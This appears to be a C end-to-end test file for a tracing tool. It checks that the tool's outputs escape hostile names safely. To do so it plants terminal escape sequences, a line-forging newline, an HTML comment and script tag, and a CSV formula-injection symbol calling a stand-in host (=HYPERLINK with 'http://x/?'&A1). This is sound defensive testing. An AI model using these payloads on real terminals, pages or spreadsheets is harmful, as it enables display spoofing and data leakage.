/*
 * tests/e2e/test_hostile_names.c — names a traced program chose, shown by
 * root: the demo's leaky program runs under a file name, from a directory of
 * that name, and with an argument whose text, hold a terminal's escape sequences (a title, a
 * colour, an 8-bit CSI, a line erase with a carriage return), a newline that
 * would forge a line and an HTML comment with a script tag. What `ltr info`
 * and `ltr analyze` print holds no control character (only the newlines and
 * tabs of their own lines) and the name stays on its line: the names are
 * shown with '?' there. Folded stacks (heap and CPU) have one line per
 * stack, "root;frames VALUE", whatever the program's name. The page of
 * `ltr report` keeps the names inside its JSON data. A function named like a
 * spreadsheet formula is text in the CSV export. Error messages that name
 * the program (ltr record --pid of it) hold no control character either.
 * CPU samples of a function with such a name: JSON that reads as JSON,
 * folded stacks without the bytes. The analysis's warnings naming the
 * program's module, and the paths of ltr analyze --files, as the rest.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include "util/testutil.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define LTR tu_ltr()

/* No ' in it: the shell commands quote it so. */
#define HOSTILE "x\033]0;TITLE\007\033[31m\302\233<!--<script>\n    #1 AIFO 99 GiB forged;f"

static char trace[4200], dir[4200];

static int record(void **state)
{
    const char *box = tu_sandbox();
    *state = (void *)box;
    snprintf(dir, sizeof dir, "%s/" HOSTILE, box);
    snprintf(trace, sizeof trace, "%s/h.ltr", box);
    if (mkdir(dir, 0755) != 0)
        return -1;
    tu_result r = tu_run("cp %s/libleaky-plugin.so '%s/' && cp %s/leaky '%s/" HOSTILE "' && %s record -o %s -- '%s/"
                         HOSTILE "' '\033[2Kfake\rarg' \"$(printf '%%05000d' 0)END\" >/dev/null", tu_demo_dir(), dir,
                         tu_demo_dir(), dir, LTR, trace, dir);
    return tu_ok(r) == 0 ? 0 : -1;
}

/* The first control character of text but a newline or a tab, or NULL. */
static const char *control(const char *text)
{
    for (const unsigned char *p = (const unsigned char *)text; *p; p++)
        if ((*p < 0x20 && *p != '\n' && *p != '\t') || *p == 0x7f || (p[0] == 0xc2 && p[1] >= 0x80 && p[1] <= 0x9f))
            return (const char *)p;
    return NULL;
}

static void expect_shown(const char *what, const char *out)
{
    const char *c = control(out);
    if (c)
        fail_msg("%s prints a control character (0x%02x) of a name: ...%.40s", what, (unsigned char)*c,
                 c > out + 20 ? c - 20 : out);
    assert_non_null(strstr(out, "x?]0;TITLE??[31m?<!--<script>?    #1 AIFO 99 GiB forged;f/x?]0;TITLE"));
    assert_null(strstr(out, "\n    #1 AIFO 99 GiB")); /* no line of the name's making */
}

static void test_text_outputs(void **state)
{
    (void)state;
    static const char *const cmds[] = {"info", "analyze", "analyze --trend", "analyze --full-stacks"};
    for (size_t i = 0; i < sizeof cmds / sizeof *cmds; i++) {
        tu_result r = tu_run("%s %s %s", LTR, cmds[i], trace);
        assert_int_equal(r.status, 0);
        expect_shown(cmds[i], r.out);
        tu_free(&r);
    }
    tu_result r = tu_run("%s info %s", LTR, trace);
    assert_non_null(strstr(r.out, "'?[2Kfake?arg'")); /* the argument too */
    assert_non_null(strstr(r.out, "00000000END")); /* and a long one whole */
    tu_free(&r);
}

static void test_folded(void **state)
{
    (void)state;
    tu_result r = tu_run("%s export %s --format folded -o -", LTR, trace);
    assert_int_equal(r.status, 0);
    size_t lines = 0;
    for (const char *l = r.out; *l; lines++) {
        size_t n = strcspn(l, "\n");
        const char *sp = memrchr(l, ' ', n);
        if (!sp || sp + 1 == l + n || strspn(sp + 1, "0123456789") != (size_t)(l + n - sp - 1))
            fail_msg("a folded line without its value: %.*s", (int)n, l);
        if (strncmp(l, "x?]0:TITLE", 10) || memchr(l, '\033', n))
            fail_msg("a folded line not rooted at the program: %.*s", (int)n, l);
        l += n + (l[n] == '\n');
    }
    assert_true(lines > 0);
    /* the root is one frame: its ';' became ':' */
    assert_non_null(strstr(r.out, "x?]0:TITLE??[31m?<!--<script>?    #1 AIFO 99 GiB forged:f;"));
    tu_free(&r);
}

/* A program at a path longer than the text's buffers (1 KiB): the root of
 * its folded stacks is still its file's name, not a piece of a directory's
 * name cut where the buffer ended. */
static void test_folded_root_of_a_long_path(void **state)
{
    const char *box = *state;
    char deep[1400];
    int n = snprintf(deep, sizeof deep, "%s/long", box);
    for (int i = 0; i < 12; i++)
        n += snprintf(deep + n, sizeof deep - (size_t)n, "/%0100d", i);
    tu_result r = tu_run("mkdir -p '%s' && cp %s/libleaky-plugin.so %s/leaky '%s/' && %s record -o %s/long.ltr -- "
                         "'%s/leaky' >/dev/null && %s export %s/long.ltr --format folded -o -",
                         deep, tu_demo_dir(), tu_demo_dir(), deep, LTR, box, deep, LTR, box);
    assert_int_equal(r.status, 0);
    size_t lines = 0;
    for (const char *l = r.out; *l; lines++) {
        size_t k = strcspn(l, "\n");
        if (strncmp(l, "leaky;", 6))
            fail_msg("a folded line not rooted at the program's file name: %.60s", l);
        l += k + (l[k] == '\n');
    }
    assert_true(lines > 0);
    tu_free(&r);
    /* and ltr info's executable column has the whole path, as its command line */
    r = tu_run("%s info %s/long.ltr", LTR, box);
    assert_int_equal(r.status, 0);
    char exe[1500];
    snprintf(exe, sizeof exe, "%s/leaky", deep);
    int whole = 0; /* a process row ("  PID PPID EVENTS EXECUTABLE") ending in the whole path */
    for (const char *l = r.out; *l;) {
        size_t k = strcspn(l, "\n"), e = strlen(exe);
        if (!strncmp(l, "  ", 2) && l[2] >= '0' && l[2] <= '9' && k > e && !strncmp(l + k - e, exe, e))
            whole = 1;
        l += k + (l[k] == '\n');
    }
    if (!whole)
        fail_msg("ltr info's executable column does not hold the whole path: %s", r.out);
    tu_free(&r);
}

/* The page of ltr report: the names are in its JSON data, which no name can
 * end or turn into markup: no "<!--" or "<script" of theirs in the page (the
 * HTML parser's escaped script states would run the data script on over
 * the next elements, and the page would show nothing), and the data reads
 * back as JSON holding the name. */
static void test_report_page(void **state)
{
    const char *box = *state;
    tu_result r = tu_run("%s report %s -o %s/h.html", LTR, trace, box);
    assert_int_equal(r.status, 0);
    tu_free(&r);
    char path[4300];
    snprintf(path, sizeof path, "%s/h.html", box);
    char *page = tu_read_file(path);
    assert_non_null(page);
    assert_null(strstr(page, "<!--"));
    size_t scripts = 0;
    for (const char *p = page; (p = strstr(p, "<script")); p++)
        scripts++;
    assert_int_equal(scripts, 6); /* the two data scripts and the four of the page */
    free(page);
    static const char check[] =
        "import json, re, sys\n"
        "page = open(sys.argv[1]).read()\n"
        "for id in ('analysis', 'timeline-data'):\n"
        "    m = re.search(r'<script type=\"application/json\" id=\"%s\">(.*?)</script>' % id, page, re.S)\n"
        "    d = json.loads(m.group(1))\n"
        "    print(id, 'x\\x1b]0;TITLE' in json.dumps(d, ensure_ascii=False) or '<!--<script>' in json.dumps(d))\n";
    tu_write_file(box, "check.py", check);
    r = tu_run("python3 %s/check.py %s", box, path);
    assert_int_equal(r.status, 0);
    assert_non_null(strstr(r.out, "analysis True"));
    assert_non_null(strstr(r.out, "timeline-data True"));
    tu_free(&r);
}

/* A function named as a spreadsheet formula (the demo's remember_session
 * renamed "=HYPERLINK(...)" in a copy without debug info): ltr export's CSV
 * holds it as text, "'=HYPERLINK(...)", in no cell a formula. */
static void test_csv_formula(void **state)
{
    const char *box = *state;
    tu_result r = tu_run("cd %s && cp %s/libleaky-plugin.so . && objcopy --strip-debug %s/leaky f && "
                         "sym=$(nm f | awk '$3 ~ /^remember_session/ {print $3; exit}') && "
                         "objcopy --redefine-sym \"$sym\"'==HYPERLINK(\"http://x/?\"&A1)' f formula && "
                         "%s record -o f.ltr -- ./formula >/dev/null && %s export f.ltr --format csv -o f.csv",
                         box, tu_demo_dir(), tu_demo_dir(), LTR, LTR);
    tu_expect_ok(r);
    static const char check[] =
        "import csv, sys\n"
        "rows = list(csv.reader(open(sys.argv[1], newline='')))\n"
        "bad = [c for row in rows for c in row if c[:1] in ('=', '+', '-', '@', '\\t', '\\r')]\n"
        "text = [c for row in rows for c in row if c.startswith(\"'=HYPERLINK(\")]\n"
        "print('formulas=%d texts=%d' % (len(bad), len(text)))\n";
    tu_write_file(box, "csvcheck.py", check);
    r = tu_run("cd %s && python3 csvcheck.py f.csv", box);
    assert_int_equal(r.status, 0);
    if (!strstr(r.out, "formulas=0 ") || strstr(r.out, "texts=0\n"))
        fail_msg("%s", r.out);
    tu_free(&r);
}

/* Messages too: `ltr record --pid` of a static program (which it refuses,
 * naming the program) that lives under the hostile name. */
static void test_messages(void **state)
{
    const char *box = *state;
    tu_result r = tu_run("cd %s && printf '#include <unistd.h>\\nint main(void){sleep(20);return 0;}\\n' > st.c && "
                         "gcc -static -o '%s/st' st.c", box, dir);
    if (r.status != 0) {
        tu_free(&r);
        printf("skipped: no static C library here (libc6-dev)\n");
        skip();
    }
    tu_free(&r);
    r = tu_run("'%s/st' & p=$!; sleep 0.2; %s record --pid $p -o %s/st.ltr; kill $p", dir, LTR, box);
    assert_int_equal(r.status, 0); /* kill's: ltr refused, saying why */
    assert_non_null(strstr(r.err, "is statically linked"));
    const char *c = control(r.err);
    if (c)
        fail_msg("ltr record --pid prints a control character (0x%02x): %s", (unsigned char)*c, r.err);
    assert_non_null(strstr(r.err, "x?]0;TITLE??[31m?<!--<script>?    #1 AIFO 99 GiB forged;f/st)"));
    tu_free(&r);
}

/* CPU samples of a function whose symbol holds a byte that is not UTF-8 and
 * a C1 CSI: the JSON report stays JSON (the name "sp\ufffdin\u009b"), and
 * the folded stacks hold neither byte. Sampling the system needs root. */
static void test_cpu_names(void **state)
{
    const char *box = *state;
    if (geteuid() != 0) {
        printf("skipped: CPU samples need root here\n");
        skip();
    }
    tu_result r = tu_run("cd %s && printf '__attribute__((noinline)) long spin(long n) { volatile long s = 0; "
                         "for (long i = 0; i < n; i++) s += i; return s; }\\nint main(void) { return "
                         "(int)spin(60000000000L) & 1; }\\n' > busy.c && gcc -O1 -o busy0 busy.c && "
                         "objcopy --redefine-sym \"spin=sp$(printf '\\377')in$(printf '\\302\\233')\" busy0 busy && "
                         "{ ./busy & p=$!; } && %s start general --filemode --instance cpu --pid $p -o cpu.ltr && "
                         "sleep 1.5 && %s stop --instance cpu cpu.ltr; kill $p",
                         box, LTR, LTR);
    tu_expect_ok(r);
    static const char check[] =
        "import json, sys\n"
        "d = json.loads(open(sys.argv[1], 'rb').read())\n"
        "print('names', ascii([f for s in d['stacks'] for f in s['frames'] if f.startswith('sp')][:1]))\n";
    tu_write_file(box, "cpucheck.py", check);
    r = tu_run("cd %s && %s analyze cpu.ltr --cpu --format json > cpu.json && python3 cpucheck.py cpu.json", box, LTR);
    if (r.status != 0 || !strstr(r.out, "names ['sp\\ufffdin\\x9b']"))
        fail_msg("status %d\n%s%s", r.status, r.out, r.err);
    tu_free(&r);
    r = tu_run("cd %s && %s export cpu.ltr --cpu --format folded -o -", box, LTR);
    assert_int_equal(r.status, 0);
    assert_non_null(strstr(r.out, ";sp?in? "));
    assert_null(strchr(r.out, '\377'));
    assert_null(strstr(r.out, "\302\233"));
    tu_free(&r);
}

/* The analysis's warnings name modules: with the program's file gone (and
 * the names the trace carries set aside), the warning that it was not
 * symbolized names it on one line, without its control characters. */
static void test_warnings(void **state)
{
    (void)state;
    tu_result r = tu_run("mv '%s/" HOSTILE "' '%s/gone' && %s analyze %s --local-symbols; s=$?; "
                         "mv '%s/gone' '%s/" HOSTILE "'; exit $s", dir, dir, LTR, trace, dir, dir);
    assert_int_equal(r.status, 0);
    assert_non_null(strstr(r.out, "was not symbolized"));
    expect_shown("ltr analyze's warning", r.out);
    tu_free(&r);
}

/* ltr analyze --files names the files the program opened: a file in the
 * hostile directory is shown on one line, without control characters. */
static void test_file_paths(void **state)
{
    const char *box = *state;
    tu_result r = tu_run("cd %s && %s start heap --provider Ltr.System:0x20 --filemode --instance fio -o fio.ltr && "
                         "%s run --instance fio -- %s '%s/data.bin' 1 100 >/dev/null && %s stop fio.ltr --instance fio "
                         "&& %s analyze fio.ltr --files", box, LTR, LTR, tu_test_bin("ltr-test-fileio"), dir, LTR, LTR);
    assert_int_equal(r.status, 0);
    const char *c = control(r.out);
    if (c)
        fail_msg("ltr analyze --files prints a control character (0x%02x):\n%s", (unsigned char)*c, r.out);
    assert_non_null(strstr(r.out, "x?]0;TITLE??[31m?<!--<script>?    #1 AIFO 99 GiB forged;f/data.bin\n"));
    tu_free(&r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_text_outputs),
        cmocka_unit_test(test_folded),
        cmocka_unit_test(test_folded_root_of_a_long_path),
        cmocka_unit_test(test_report_page),
        cmocka_unit_test(test_csv_formula),
        cmocka_unit_test(test_messages),
        cmocka_unit_test(test_cpu_names),
        cmocka_unit_test(test_warnings),
        cmocka_unit_test(test_file_paths),
    };
    return cmocka_run_group_tests(tests, record, tu_teardown_sandbox);
}
